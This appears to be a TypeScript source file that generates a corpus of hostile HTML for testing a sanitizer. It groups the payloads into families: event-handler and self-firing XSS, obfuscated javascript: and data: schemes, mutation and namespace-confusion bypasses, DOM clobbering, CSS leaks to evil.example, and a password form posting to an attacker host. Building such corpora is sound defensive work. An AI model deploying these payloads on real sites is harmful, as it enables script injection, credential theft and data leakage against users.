/**
 * Our own corpus of hostile markup: families of attacks, each a short list of what varies times a short list of where it
 * stands. `alert(1)` is what every one of them tries to call.
 */
export interface Family {
  readonly name: string;
  readonly payloads: readonly string[];
}

const CALL = 'alert(1)';

const words = (text: string): readonly string[] => text.trim().split(/\s+/);

/** Every pair of the two lists, made into one text. */
const cross = <A, B>(left: readonly A[], right: readonly B[], make: (a: A, b: B) => string): readonly string[] =>
  left.flatMap((a) => right.map((b) => make(a, b)));

const BROKEN_IMAGE = `<img src=x onerror=${CALL}>`;

const HANDLERS = words(`
  onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforeinput onbeforematch
  onbeforetoggle onbeforeunload onblur oncancel oncanplay onchange onclick onclose oncontextmenu oncopy oncuechange oncut ondblclick
  ondrag ondrop ondurationchange onended onerror onfocus onfocusin onformdata ongotpointercapture onhashchange oninput oninvalid
  onkeydown onload onloadend onloadstart onmessage onmouseenter onmouseover onmousewheel onpageshow onpaste onplay onpointerenter
  onpointerrawupdate onpopstate onprogress onreset onresize onscroll onscrollend onscrollsnapchange onsearch
  onsecuritypolicyviolation onseeked onselect onselectionchange onselectstart onshow onslotchange onsubmit onsuspend
  ontimeupdate ontoggle ontouchstart ontransitionend ontransitionrun onunhandledrejection onunload onvolumechange onwebkitanimationend
  onwheel ONCLICK OnLoad`);

const handlers = HANDLERS.map((handler, at) =>
  at % 2 === 0 ? `<p ${handler}="${CALL}" tabindex=1 contenteditable>x</p>` : `<img src="https://ok.example/a.png" ${handler}="${CALL}">`,
);

/** These call by themselves, without anyone touching them. */
const selfStarting = [
  BROKEN_IMAGE,
  `<img src=x onerror="${CALL}"//`,
  `<img/src=x/onerror=${CALL}>`,
  `<IMG SRC=x ONERROR=${CALL}>`,
  `<img src="x" onerror\n=\n"${CALL}">`,
  `<img src=x:x onerror=${CALL}>`,
  `<img srcset=x onerror=${CALL}>`,
  `<img \x00src=x onerror=${CALL}>`,
  `<img src=x a="b"onerror="${CALL}">`,
  `<image src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><g onload=${CALL}></g></svg>`,
  `<body onload=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}></select>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<button autofocus onfocus=${CALL}>x</button>`,
  `<a href=x autofocus onfocus=${CALL}>x</a>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<video src=x onerror=${CALL}></video>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<iframe onload=${CALL}></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object onerror=${CALL} data=x></object>`,
  `<embed src=x onerror=${CALL}>`,
  `<script>${CALL}</script>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type=module>${CALL}</script>`,
  `<script/x>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<<script>${CALL}//<</script>`,
  `<link rel=stylesheet href=x onerror=${CALL}>`,
  `<style onload=${CALL}></style>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<p style="animation:x" onanimationstart=${CALL}>x</p><style>@keyframes x{}</style>`,
  `<input type=image src=x onerror=${CALL}>`,
  `<isindex type=image src=x onerror=${CALL}>`,
  `<keygen autofocus onfocus=${CALL}>`,
  `<dialog open onclose=${CALL}>x</dialog>`,
  `<div popover onbeforetoggle=${CALL}>x</div>`,
  `<track onerror=${CALL} src=x>`,
  `<x onclick=${CALL} tabindex=1 autofocus onfocus=${CALL}>x</x>`,
];

/** One live address, written in the ways that browsers read as it. */
const SCHEMES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `&#14; javascript:${CALL}`,
  `jav&#x09;ascript:${CALL}`,
  `jav&#10;ascript:${CALL}`,
  `jav&NewLine;ascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CALL}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${CALL}`,
  `&#0000106javascript:${CALL}`,
  `javascript://%0a${CALL}`,
  `javascript://https://ok.example/%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>${CALL}</script></x>`,
  `blob:https://evil.example/1`,
  `filesystem:https://evil.example/temporary/x`,
  `view-source:javascript:${CALL}`,
  `chrome://settings`,
  `file:///etc/passwd`,
];

/** Places that take an address. */
const PLACES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<img src="https://ok.example/a.png" srcset="${address} 2x">`,
  (address) => `<picture><source srcset="${address}"><img src="https://ok.example/a.png"></picture>`,
  (address) => `<img data-src="${address}" src="data:,">`,
  (address) => `<blockquote cite="${address}">x</blockquote>`,
  (address) => `<area href="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<input type=image src="${address}">`,
  (address) => `<video poster="${address}" src="${address}"></video>`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<table background="${address}"><td background="${address}">x</table>`,
  (address) => `<svg><a href="${address}" xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<svg><use href="${address}"/><image href="${address}"/></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"/><text>x</text></a></svg>`,
  (address) => `<math href="${address}" xlink:href="${address}"><mi>x</mi></math>`,
  (address) => `<p background="${address}" lowsrc="${address}" dynsrc="${address}" longdesc="${address}">x</p>`,
];

const link = (address: string): string => `<a href="${address}">x</a>`;

/** Each way of writing in a link and a picture, and one of them in each place. */
const schemes = [
  ...cross(SCHEMES, [link, (address: string) => `<img src="${address}">`], (address, place) => place(address)),
  ...cross([`javascript:${CALL}`, `data:text/html,<script>${CALL}</script>`], PLACES.slice(2), (address, place) => place(address)),
];

/** Elements whose content is text to one parser and markup to another. */
const RAW = words('style script title textarea xmp noscript noembed noframes iframe plaintext template');

const FOREIGN = [
  'svg',
  'math',
  'svg><desc',
  'svg><foreignObject',
  'svg><title',
  'math><mtext',
  'math><mi',
  'math><annotation-xml encoding="text/html"',
];

const namespaces = [
  ...cross(FOREIGN, RAW, (open, raw) => `<${open}><${raw}>${BROKEN_IMAGE}</${raw}>`),
  ...cross(FOREIGN, RAW, (open, raw) => `<${open}><${raw}><a title="</${raw}>${BROKEN_IMAGE}">x</a>`),
];

const rawBreakouts = RAW.flatMap((raw) => [
  `<${raw}><p title="</${raw}>${BROKEN_IMAGE}">x</p></${raw}>`,
  `<${raw}>${BROKEN_IMAGE}</${raw}>`,
  `<${raw}><!--</${raw}>${BROKEN_IMAGE}--></${raw}>`,
  `</${raw}>${BROKEN_IMAGE}`,
  `<p title='<${raw}>'></p></${raw}>${BROKEN_IMAGE}`,
]);

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<svg></p><style><a id="</style>${BROKEN_IMAGE}">`,
  `<svg><p><style><g title="</style>${BROKEN_IMAGE}">`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>${BROKEN_IMAGE}">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${BROKEN_IMAGE}"></style></h1>`,
  `<table><tbody><tr><td><math><mtext><table><mglyph><style><math><img src onerror=${CALL}></style></mglyph></table>`,
  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
  `<listing><img src=\`x\` onerror=${CALL}></listing>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!--!><img src=x onerror=${CALL}>-->`,
  `<!-- --!><img src=x onerror=${CALL}>-->`,
  `<!-- <img title="-->${BROKEN_IMAGE}"> -->`,
  `<![CDATA[><img src=x onerror=${CALL}>]]>`,
  `<svg><![CDATA[><img src=x onerror=${CALL}>]]></svg>`,
  `<?xml version="1.0"?><img src=x onerror=${CALL}>`,
  `<?php <img src=x onerror=${CALL}> ?>`,
  `<! foo="><img src=x onerror=${CALL}>">`,
  `</ foo="><img src=x onerror=${CALL}>">`,
  `<% foo><img src=x onerror=${CALL}>`,
  `<a title="\`"><img alt="\` onerror=${CALL} src=x">`,
  `<img alt="x\` onerror=${CALL}//" src=x>`,
  `<p title="&quot;&gt;&lt;img src=x onerror=${CALL}&gt;">x</p>`,
  `<img alt="&quot; onerror=&quot;${CALL}" src=x>`,
  `<img alt='x" onerror="${CALL}' src="https://ok.example/a.png">`,
  `<a href="https://ok.example/&quot; onclick=&quot;${CALL}">x</a>`,
  `<a href='https://ok.example/"onmouseover="${CALL}'>x</a>`,
  `<img src='https://ok.example/"onerror="${CALL}'>`,
  `<img srcset='https://ok.example/a.png 1x,"onerror="${CALL}'>`,
  `<img src="https://ok.example/a.png" srcset="https://ok.example/b.png 1x, data:image/svg+xml,<svg/onload=${CALL}> 2x">`,
  `<img alt="a>b" title="<img src=" src="data:image/svg+xml,<svg/onload=${CALL}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${BROKEN_IMAGE}">`,
  `<select><iframe></select>${BROKEN_IMAGE}`,
  `<table><caption><select><img src=x onerror=${CALL}></select></caption></table>`,
  `<ruby><rtc><svg><style><img src=x onerror=${CALL}></style></svg></rtc></ruby>`,
  `<dl><dt><math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=${CALL}>`,
  `<p><svg><foreignObject><math><mi><style></mi></math>${BROKEN_IMAGE}`,
  `<div id="a"><svg><style><!--<div id="b">--><img src=x onerror=${CALL}></style></svg></div>`,
  `<noscript><style></noscript>${BROKEN_IMAGE}`,
  `<noscript>&lt;img src=x onerror=${CALL}&gt;</noscript>`,
  `<noscript><img src="https://ok.example/a.png" onerror=${CALL}></noscript>`,
  `<template shadowrootmode=open>${BROKEN_IMAGE}</template>`,
  `<div><template shadowrootmode=open><slot></slot><script>${CALL}</script></template>x</div>`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  `\\u003cimg src=x onerror=${CALL}\\u003e`,
  `＜img src=x onerror=${CALL}＞`,
  `<p>\ufeff<img\u2028src=x\u2028onerror=${CALL}></p>`,
];

const DEPTHS = [40, 255, 510];

const nesting = cross(words('div b ul svg table font math blockquote form a'), DEPTHS, (name, depth) => {
  const opening = name === 'table' ? '<table><tr><td>' : name === 'ul' ? '<ul><li>' : `<${name}>`;
  return `${opening.repeat(depth)}<svg><style><a title="</style>${BROKEN_IMAGE}"></a>${BROKEN_IMAGE}`;
});

/** What a page can put in the place of properties that code asks of documents and forms. */
export const CLOBBERED = words(`
  body head documentElement location children childNodes attributes nodeName nodeType parentNode firstChild innerHTML textContent
  getAttribute setAttribute removeAttribute querySelector querySelectorAll createElement implementation cookie defaultView
  ownerDocument constructor nextSibling lastChild localName matches closest removeChild nodeValue shadowRoot URL title contentType
  readyState getElementById checkVisibility getBoundingClientRect __proto__ hasOwnProperty toString valueOf then popup chrome browser alert`);

const clobbering = CLOBBERED.flatMap((name, at) => [
  at % 2 === 0
    ? `<a id="${name}" name="${name}" href="https://evil.example/">x</a>`
    : `<img id="${name}" name="${name}" src="https://ok.example/a.png">`,
  `<form id="${name}" name="${name}"><input id="${name}" name="${name}"><input name="${name}"></form>`,
]);

const EVIL_URL = 'https://evil.example/leak';

const styles = [
  ...[
    `background:url(${EVIL_URL})`,
    `background:\\75rl(${EVIL_URL})`,
    `width:expression(${CALL})`,
    `-moz-binding:url(${EVIL_URL})`,
    `behavior:url(${EVIL_URL})`,
    'position:fixed;inset:0;z-index:2147483647',
    `list-style:url(${EVIL_URL})`,
    `cursor:url(${EVIL_URL}),auto`,
    `content:url(${EVIL_URL})`,
    `--x:url(${EVIL_URL});mask:var(--x)`,
    `background-image:image-set("${EVIL_URL}" 1x)`,
    'animation:spin 1s;transition:all 1s',
  ].map((style) => `<p style='${style}'>x</p>`),
  ...[
    `@import "${EVIL_URL}";`,
    `@import url(${EVIL_URL});`,
    `@font-face{font-family:x;src:url(${EVIL_URL})}`,
    `[value^=a]{background:url(${EVIL_URL})}`,
    `button{display:none} .ledger{visibility:hidden}`,
    ':root{--paper:red}',
    `:host{background:url(${EVIL_URL})}`,
    `@namespace svg url(${EVIL_URL});`,
  ].flatMap((sheet) => [
    `<style>${sheet}</style>`,
    `<svg><style>${sheet}</style></svg>`,
    `<link rel=stylesheet href='data:text/css,${sheet}'>`,
  ]),
];

const documents = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  '<meta http-equiv="Set-Cookie" content="a=b">',
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  '<meta name="referrer" content="unsafe-url">',
  '<meta charset="utf-7">',
  '<base href="https://evil.example/">',
  '<base target="_top">',
  '<base href="https://evil.example/"><a href="x">x</a><img src="x">',
  '<html manifest="https://evil.example/x"><body><p>x</p>',
  '<frameset><frame src="https://evil.example/"></frameset>',
  '<iframe src="https://evil.example/" sandbox allow="camera"></iframe>',
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc='<img src=x onerror=parent.${CALL}>' src="https://ok.example/"></iframe>`,
  '<fencedframe src="https://evil.example/"></fencedframe>',
  '<portal src="https://evil.example/"></portal>',
  '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"><param name="movie" value="x"></object>',
  '<object type="text/html" data="https://evil.example/"></object>',
  '<embed src="https://evil.example/x.pdf" type="application/pdf">',
  `<applet code="x" archive="${EVIL_URL}"></applet>`,
  `<bgsound src="${EVIL_URL}">`,
  `<layer src="${EVIL_URL}"></layer>`,
  `<xml src="${EVIL_URL}"></xml>`,
  `<link rel="prefetch" href="${EVIL_URL}">`,
  `<link rel="dns-prefetch" href="//evil.example">`,
  `<link rel="preconnect" href="https://evil.example">`,
  `<link rel="modulepreload" href="${EVIL_URL}">`,
  `<link rel="import" href="${EVIL_URL}">`,
  '<canvas></canvas>',
  `<video src="${EVIL_URL}" autoplay></video>`,
  `<audio src="${EVIL_URL}" autoplay></audio>`,
  `<map name="m"><area href="javascript:${CALL}"></map><img usemap="#m" src="https://ok.example/a.png">`,
];

const forms = [
  '<form action="https://evil.example/"><input type=password name=p><button>Log in</button></form>',
  `<form id=f action="https://evil.example/"></form><button form=f formaction="javascript:${CALL}">x</button>`,
  '<input type=hidden name=x value=y>',
  '<input type=file>',
  '<select><option>x</option></select>',
  '<textarea>x</textarea>',
  '<button type=submit>Copy</button>',
  '<button popovertarget=popup>x</button>',
  '<button commandfor=popup command=show-modal>x</button>',
  '<label for=popup>x</label>',
  '<fieldset><legend>x</legend></fieldset>',
  '<output for=popup>x</output>',
  '<datalist id=x><option>y</option></datalist>',
  '<progress value=1></progress><meter value=1></meter>',
  '<form><input formtarget=_top formmethod=post formenctype=text/plain></form>',
];

/** Attributes that act, name, style, send or reach beyond the text. */
const ATTRIBUTES = [
  'id="popup"',
  'name="body"',
  'class="primary actions"',
  'style="color:red"',
  'target="_top"',
  'target="opener"',
  'ping="https://evil.example/"',
  'referrerpolicy="unsafe-url"',
  'rel="opener"',
  'rel="prerender"',
  'download="x.exe"',
  'attributionsrc="https://evil.example/"',
  'crossorigin="use-credentials"',
  'fetchpriority="high"',
  'loading="eager"',
  'usemap="#m"',
  'ismap',
  'is="x-evil"',
  'slot="x"',
  'part="x"',
  'exportparts="x"',
  'nonce="x"',
  'integrity="x"',
  'contenteditable',
  'draggable="true"',
  'tabindex="1"',
  'accesskey="c"',
  'autofocus',
  'inert',
  'hidden',
  'popover',
  'popovertarget="popup"',
  'anchor="x"',
  'role="button"',
  'aria-label="Copy"',
  'aria-hidden="true"',
  'data-x="1"',
  'xmlns="http://www.w3.org/2000/svg"',
  'xlink:href="https://evil.example/"',
  'srcdoc="x"',
  'formaction="https://evil.example/"',
  'background="https://evil.example/"',
  'itemprop="url"',
  'elementtiming="x"',
  'writingsuggestions="true"',
  'virtualkeyboardpolicy="manual"',
];

const attributes = ATTRIBUTES.flatMap((attribute) => [
  `<a href="https://ok.example/" ${attribute}>x</a>`,
  `<img src="https://ok.example/a.png" ${attribute}>`,
]);

const foreign = [
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:text/javascript,${CALL}"/></svg>`,
  `<svg><set onbegin=${CALL} attributeName=x></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  `<svg><animateTransform onbegin=${CALL} attributeName=transform></svg>`,
  `<svg><animateMotion onbegin=${CALL} dur=1s></svg>`,
  `<svg><discard onbegin=${CALL}></svg>`,
  `<svg><image href=x onerror=${CALL}></svg>`,
  `<svg><feImage href="${EVIL_URL}"/></svg>`,
  `<svg><foreignObject><body onload=${CALL}></foreignObject></svg>`,
  `<svg><foreignObject><iframe onload=${CALL}></iframe></foreignObject></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${CALL}</handler></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>#x"></use></svg>`,
  `<svg><style>@import "${EVIL_URL}"</style></svg>`,
  `<svg><a><set attributeName=href to="javascript:${CALL}"/><text>x</text></a></svg>`,
  `<svg><title><img src=x onerror=${CALL}></title></svg>`,
  `<svg><desc><img src=x onerror=${CALL}></desc></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${CALL}">x</maction></math>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${CALL}</script></annotation-xml></semantics></math>`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`,
];

export const families: readonly Family[] = [
  { name: 'handlers', payloads: handlers },
  { name: 'what starts by itself', payloads: selfStarting },
  { name: 'encoded schemes', payloads: schemes },
  { name: 'namespaces', payloads: namespaces },
  { name: 'raw text', payloads: rawBreakouts },
  { name: 'mutation', payloads: mutations },
  { name: 'nesting', payloads: nesting },
  { name: 'clobbering', payloads: clobbering },
  { name: 'styles', payloads: styles },
  { name: 'documents in the document', payloads: documents },
  { name: 'forms', payloads: forms },
  { name: 'attributes', payloads: attributes },
  { name: 'SVG and MathML', payloads: foreign },
];
